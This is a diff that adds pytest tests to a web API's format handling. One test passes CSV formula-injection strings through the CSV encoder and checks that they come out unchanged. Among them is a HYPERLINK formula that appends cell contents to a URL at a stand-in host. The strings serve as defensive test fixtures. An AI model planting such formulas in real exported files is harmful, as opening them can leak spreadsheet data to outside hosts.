@@ -1,8 +1,14 @@
 """The choice of a format by Accept header and by suffix."""
 
+import csv
+import io
+import re
+
+import pyarrow as pa
 import pytest
 from fastapi.testclient import TestClient
 
+from api.formats.encoding import encoded
 from api.formats.offered import FORMATS, Format, by_accept
 from tests.api.rows.conftest import CRAWL
 from tests.api.test_v1 import assert_problem
@@ -36,3 +42,19 @@ def test_a_suffix_that_is_not_offered_is_a_problem(client: TestClient, suffix: s
 def test_the_most_specific_range_decides() -> None:
     assert by_accept("text/*;q=0.1, text/csv;q=0.9, */*;q=0.5").suffix == "csv"
     assert by_accept("*/*;q=0.1, application/vnd.apache.parquet").suffix == "parquet"
+
+
+def test_csv_keeps_a_text_that_a_spreadsheet_takes_for_a_formula() -> None:
+    hostile = ['=HYPERLINK("https://a.test/?"&A1)', "+1", "-1", "@SUM(A1)", "\t=1", "ordinary"]
+    batch = pa.RecordBatch.from_pydict({"path": hostile})
+    text = b"".join(encoded(FORMATS["csv"], [batch], batch.schema)).decode()
+    assert list(csv.reader(io.StringIO(text))) == [["path"], *([one] for one in hostile)]
+
+
+def test_csv_leads_to_what_a_reader_of_it_should_know(client: TestClient) -> None:
+    for path in (f"/v1/visits.csv?crawl={CRAWL}", f"/v1/visits.csv?crawl={CRAWL}&limit=1"):
+        found = re.search(r'<([^>]*)>; rel="help"', client.get(path).headers["link"])
+        assert found is not None
+        address, _, anchor = found[1].partition("#")
+        assert f'id="{anchor}"' in client.get(address).text
+    assert 'rel="help"' not in client.get(f"/v1/visits.ndjson?crawl={CRAWL}").headers["link"]
